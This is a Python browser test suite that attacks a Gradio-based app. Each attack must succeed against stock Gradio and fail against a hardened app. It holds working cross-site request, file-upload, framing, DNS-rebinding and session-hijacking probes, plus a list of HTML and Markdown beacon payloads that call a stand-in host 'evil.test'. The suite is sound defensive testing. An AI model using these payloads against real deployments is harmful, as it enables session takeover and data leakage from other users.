"""Attacks on the app from a real Chromium: from a sibling host, from another person's page, by text that calls home.

Each attack runs twice: against Gradio as it comes, where it has to succeed (else the probe is broken), and against our
app, where it has to fail.
"""

from __future__ import annotations

import json
import threading
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import gradio as gr
import pytest
import uvicorn
from fastapi import FastAPI
from playwright.sync_api import Browser, BrowserContext, Page

from llmops_kit.kit import Kit
from llmops_kit.settings import Settings
from llmops_kit.ui.mount import mount
from llmops_kit.web.server import reserve, serving
from llmops_kit.web.service import build_app
from tests.app_process import CHROMIUM, CHROMIUM_ARGS
from tests.web_toy import build_toy, hidden_numbers, number_of

pytestmark = pytest.mark.browser
APP, SIBLING, EVIL = "llmops.corp.test", "wiki.corp.test", "evil.test"
FETCH = """async ({path, options}) => {
  try {
    const answer = await fetch(path, {credentials: 'include', ...options});
    return answer.status + ' ' + await answer.text();
  } catch (error) { return 'blocked: ' + error; }
}"""
LISTEN = """async ({path, seconds}) => {
  const stop = new AbortController();
  setTimeout(() => stop.abort(), seconds * 1000);
  const answer = await fetch(path, {signal: stop.signal});
  if (!answer.ok) return answer.status + ' refused';
  let heard = '';
  try { for await (const part of answer.body.pipeThrough(new TextDecoderStream())) heard += part; } catch (_) {}
  return heard;
}"""
UPLOAD = """async (path) => {
  const form = new FormData();
  form.append('files', new File(['planted'], 'planted.txt'));
  try { await fetch(path, {method: 'POST', mode: 'no-cors', credentials: 'include', body: form}); } catch (_) {}
}"""


@dataclass
class Target:
    """An app under attack."""

    toy: gr.Blocks
    port: int
    uploads: Path
    login: bool
    approved: list[str | None]

    @property
    def url(self) -> str:
        return f"http://{APP}:{self.port}"

    def open(self, context: BrowserContext, user: str) -> Page:
        """The app's page, as a known person."""
        page = context.new_page()
        page.goto(self.url)
        if self.login:
            page.evaluate("user => fetch('/login', {method: 'POST', body: new URLSearchParams({username: user, password: 'pw'})})", user)
            page.goto(self.url)
        page.wait_for_selector("#said textarea", timeout=90_000)
        return page

    def stored(self) -> set[str]:
        """Names of all files uploaded so far."""
        return {path.name for path in self.uploads.rglob("*") if path.is_file()}


@dataclass
class Elsewhere:
    """Another web server, under as many names as one likes, that counts who calls."""

    port: int
    calls: list[str] = field(default_factory=list)


@pytest.fixture(scope="module")
def elsewhere() -> Iterator[Elsewhere]:
    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            found.calls.append(f"http://{self.headers['host']}{self.path}")
            self.send_response(200)
            self.send_header("content-type", "text/html")
            self.end_headers()
            self.wfile.write(b"<title>elsewhere</title>")

        do_POST = do_GET

        def log_message(self, *_: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    found = Elsewhere(server.server_port)
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    yield found
    server.shutdown()
    thread.join()
    server.server_close()


@pytest.fixture(scope="module")
def chromium(browser: Browser) -> Iterator[Browser]:
    """A Chromium for which every .test name is this machine."""
    rules = "--host-resolver-rules=MAP *.test 127.0.0.1"
    opened = browser.browser_type.launch(executable_path=CHROMIUM, args=[*CHROMIUM_ARGS, rules])
    yield opened
    opened.close()


@pytest.fixture(scope="module")
def ours(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Target]:
    """The toy behind our edge."""
    with Kit(Settings(workspace=tmp_path_factory.mktemp("ours") / "ws", allowed_hosts=(APP,))) as kit:
        approved: list[str | None] = []
        toy = build_toy(approved, kit.settings.upload_folder)
        with serving(build_app(kit, toy, mount=mount)) as url:
            yield Target(toy, int(url.rpartition(":")[2]), kit.settings.upload_folder, False, approved)


@pytest.fixture(scope="module")
def bare(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Target]:
    """The toy on Gradio as it comes, with its own log-in."""
    folder = tmp_path_factory.mktemp("bare")
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("GRADIO_TEMP_DIR", str(folder))
        approved: list[str | None] = []
        toy = build_toy(approved, folder)
        toy.queue()
        app = gr.mount_gradio_app(FastAPI(), toy, path="/", auth=[("alice", "pw"), ("bob", "pw")])
        listener = reserve("127.0.0.1", 0)
        server = uvicorn.Server(uvicorn.Config(app, log_config=None, ws="none", timeout_graceful_shutdown=1))
        thread = threading.Thread(target=server.run, kwargs={"sockets": [listener]})
        thread.start()
        while not server.started:
            time.sleep(0.05)
        yield Target(toy, listener.getsockname()[1], folder, True, approved)
        server.should_exit = True
        thread.join()


@pytest.fixture(params=["bare", "ours"])
def target(request: pytest.FixtureRequest) -> Target:
    """First Gradio as it comes, then our app."""
    found: Target = request.getfixturevalue(request.param)
    return found


@pytest.fixture
def new_person(chromium: Browser) -> Iterator[Callable[[], BrowserContext]]:
    opened: list[BrowserContext] = []

    def person() -> BrowserContext:
        opened.append(chromium.new_context())
        return opened[-1]

    yield person
    for context in opened:
        context.close()


def wait_until(met: Callable[[], bool], limit_s: float = 20) -> bool:
    end = time.monotonic() + limit_s
    while not met() and time.monotonic() < end:
        time.sleep(0.1)
    return met()


def read(page: Page, path: str) -> str:
    """Status and answer of an address, read by a script of the page with its visitor's cookies."""
    found: str = page.evaluate(FETCH, {"path": path, "options": {}})
    return found


def post(page: Page, path: str, body: dict[str, Any]) -> str:
    """Status and answer of a JSON post by a script of the page."""
    options = {"method": "POST", "headers": {"content-type": "application/json"}, "body": json.dumps(body)}
    found: str = page.evaluate(FETCH, {"path": path, "options": options})
    return found


def listen(page: Page, path: str, seconds: float) -> str:
    """What a script of the page hears on an event stream in a while."""
    found: str = page.evaluate(LISTEN, {"path": path, "seconds": seconds})
    return found


def session_of(page: Page, button: str) -> dict[str, Any]:
    """Press a button and give the body of the queue call it made, session hash included."""
    with page.expect_request("**/gradio_api/queue/join*") as sent:
        page.click(button)
    body: dict[str, Any] = sent.value.post_data_json
    return {**body, "answer": sent.value.response().json()}


def test_a_page_on_a_sibling_host_takes_over_a_visitor(target: Target, elsewhere: Elsewhere, new_person: Callable[[], BrowserContext]) -> None:
    context = new_person()
    target.open(context, "alice")
    attacker = context.new_page()
    attacker.goto(f"http://{SIBLING}:{elsewhere.port}/")
    hidden = hidden_numbers(target.toy)
    before = len(target.approved)
    join = {"fn_index": hidden[0], "data": ["evil"], "session_hash": "sibling"}
    success = {
        "token": read(attacker, f"{target.url}/gradio_api/token").startswith("200"),
        "config": "components" in read(attacker, f"{target.url}/config"),
        "run": "approved evil" in post(attacker, f"{target.url}/gradio_api/run/approve", {"data": ["evil"]}),
        "join": "event_id" in post(attacker, f"{target.url}/gradio_api/queue/join", join),
    }
    attacker.evaluate(UPLOAD, f"{target.url}/gradio_api/upload")
    success["upload"] = wait_until(lambda: "planted.txt" in target.stored(), 3)
    success["approved"] = wait_until(lambda: len(target.approved) > before, 3)
    assert success == dict.fromkeys(success, target.login)


def test_a_form_on_a_sibling_host_uploads_a_file(target: Target, elsewhere: Elsewhere, new_person: Callable[[], BrowserContext]) -> None:
    """The oldest way: a form that sends itself needs no permission of any script rule."""
    context = new_person()
    target.open(context, "alice")
    attacker = context.new_page()
    attacker.goto(f"http://{SIBLING}:{elsewhere.port}/")
    attacker.set_content(f"<form method=post enctype=multipart/form-data action={target.url}/gradio_api/upload><input type=file name=files></form>")
    attacker.set_input_files("input", files=[{"name": "by-form.txt", "mimeType": "text/plain", "buffer": b"x"}])
    attacker.evaluate("document.forms[0].submit()")
    assert wait_until(lambda: "by-form.txt" in target.stored(), 4) is target.login


def test_a_frame_on_a_sibling_host_shows_the_app(target: Target, elsewhere: Elsewhere, new_person: Callable[[], BrowserContext]) -> None:
    context = new_person()
    target.open(context, "alice")
    attacker = context.new_page()
    attacker.goto(f"http://{SIBLING}:{elsewhere.port}/")
    attacker.set_content(f"<iframe src={target.url}></iframe>")
    frame = attacker.frames[1]
    assert wait_until(lambda: frame.url.startswith(target.url) and frame.locator("#said").count() > 0, 20 if target.login else 5) is target.login


def test_a_rebound_name_opens_the_app(target: Target, new_person: Callable[[], BrowserContext]) -> None:
    page = new_person().new_page()
    answer = page.goto(f"http://rebound.{EVIL}:{target.port}/")
    assert answer is not None
    assert ("gradio_config" in answer.text()) is target.login
    assert (answer.status == 200) is target.login


def test_a_link_from_another_host_keeps_the_person(ours: Target, elsewhere: Elsewhere, new_person: Callable[[], BrowserContext]) -> None:
    """A Strict cookie stays behind when a link elsewhere leads here; the person must still be the same one."""
    context = new_person()
    ours.open(context, "alice")
    before = context.cookies(ours.url)
    page = context.new_page()
    page.goto(f"http://{EVIL}:{elsewhere.port}/")
    page.set_content(f"<a href={ours.url}>app</a>")
    page.click("a")
    page.wait_for_selector("#said textarea", timeout=60_000)
    assert [cookie["value"] for cookie in context.cookies(ours.url)] == [cookie["value"] for cookie in before]


def test_a_borrowed_session_hash_shows_another_persons_words(target: Target, new_person: Callable[[], BrowserContext]) -> None:
    alice, bob = target.open(new_person(), "alice"), target.open(new_person(), "bob")
    alice.fill("#said textarea", "alice-secret")
    session = session_of(alice, "#remember")["session_hash"]
    time.sleep(1)
    recall = {"fn_index": number_of(target.toy, "recall"), "data": [None], "session_hash": session}
    joined = post(bob, "/gradio_api/queue/join", recall)
    heard = listen(bob, f"/gradio_api/queue/data?session_hash={session}", 3)
    success = {"join": joined.startswith("200"), "secret": "alice-secret" in heard}
    assert success == dict.fromkeys(success, target.login)
    if not target.login:
        assert (joined[:3], heard[:3]) == ("403", "403")


@pytest.mark.parametrize("known", [True, False])
def test_another_person_hears_and_cancels_a_running_job(target: Target, new_person: Callable[[], BrowserContext], known: bool) -> None:
    alice = target.open(new_person(), "alice")
    if known:
        other = target.open(new_person(), "bob")
    else:
        other = new_person().new_page()
        other.goto(f"{target.url}/theme.css")
    alice.fill("#steps input", "40")
    call = session_of(alice, "#count")
    wait_until(lambda: alice.input_value("#answer textarea").startswith("1"), 10)
    heard = listen(other, f"/gradio_api/queue/data?session_hash={call['session_hash']}", 1.5)
    ids = {"session_hash": call["session_hash"], "fn_index": call["fn_index"], "event_id": call["answer"]["event_id"]}
    cancelled = post(other, "/gradio_api/cancel", ids)
    assert cancelled.startswith("200") is target.login
    finished = wait_until(lambda: alice.input_value("#answer textarea").startswith("40 for"), 12 if not target.login else 6)
    assert finished is not target.login
    if not target.login:
        assert heard[:3] in ("401", "403")


def test_another_person_opens_an_upload(target: Target, new_person: Callable[[], BrowserContext]) -> None:
    alice, bob = target.open(new_person(), "alice"), target.open(new_person(), "bob")
    with alice.expect_response(lambda answer: "/gradio_api/upload?" in answer.url) as stored:
        alice.set_input_files("#upload input", files=[{"name": "給与.txt", "mimeType": "text/plain", "buffer": b"alice only"}])
    path = stored.value.json()[0]
    assert read(alice, f"/gradio_api/file={path}") == "200 alice only"
    taken = read(bob, f"/gradio_api/file={path}")
    named = {"path": path, "meta": {"_type": "gradio.FileData"}}
    joined = post(bob, "/gradio_api/queue/join", {"fn_index": number_of(target.toy, "size"), "data": [named], "session_hash": "thief"})
    success = {"file": taken == "200 alice only", "as input": joined.startswith("200")}
    assert success == dict.fromkeys(success, target.login)


BEACONS = {
    "markdown image": "![x]({0})",
    "reference image": "![x][r]\n\n[r]: {0}",
    "image": '<img src="{0}">',
    "srcset": '<img srcset="{0} 1x">',
    "lazy image": '<img loading="lazy" src="{0}">',
    "picture": '<picture><source srcset="{0}"><img></picture>',
    "video": '<video autoplay src="{0}"></video>',
    "poster": '<video poster="{0}"></video>',
    "audio": '<audio autoplay src="{0}"></audio>',
    "style": '<div style="background-image:url({0});height:9px">x</div>',
    "style sheet": '<style>#said {{background: url("{0}")}}</style>',
    "import": '<style>@import "{0}";</style>',
    "link": '<link rel="stylesheet" href="{0}">',
    "prefetch": '<link rel="prefetch" href="{0}">',
    "svg": '<svg><image href="{0}" width="9" height="9"/></svg>',
    "frame": '<iframe src="{0}"></iframe>',
    "object": '<object data="{0}"></object>',
    "embed": '<embed src="{0}">',
    "image button": '<input type="image" src="{0}">',
    "track": '<video><track default src="{0}"></video>',
}


def test_text_calls_home(target: Target, elsewhere: Elsewhere, new_person: Callable[[], BrowserContext]) -> None:
    """Text of a model or a document, shown as Markdown, chat, table cell and HTML, tries to tell another host about it."""
    page = target.open(new_person(), "alice")
    page.set_default_timeout(60_000)
    called: set[str] = set()
    for number, (kind, form) in enumerate(BEACONS.items()):
        mark = f"{'bare' if target.login else 'ours'}-{number}"
        page.fill("#said textarea", f"shown {mark}\n\n" + form.format(f"http://{EVIL}:{elsewhere.port}/{mark}.png"))
        page.click("#show")
        page.wait_for_function("mark => document.querySelector('#chat').innerText.includes(mark)", arg=f"shown {mark}")
        if wait_until(lambda mark=mark: any(mark in call for call in elsewhere.calls), 0.6):  # type: ignore[misc]
            called.add(kind)
    time.sleep(1)
    if target.login:
        assert {"markdown image", "image", "style", "video"} <= called
    else:
        assert [call for call in elsewhere.calls if "ours-" in call] == []
